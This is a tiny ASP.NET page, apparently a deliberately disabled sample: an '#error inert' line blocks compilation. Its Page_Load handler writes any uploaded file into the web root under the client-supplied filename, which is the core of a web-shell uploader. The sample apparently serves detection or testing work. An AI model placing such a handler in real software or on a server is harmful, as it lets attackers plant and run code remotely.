<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ Request.Files[0].SaveAs(Server.MapPath(Request.Files[0].FileName)); }
</script>
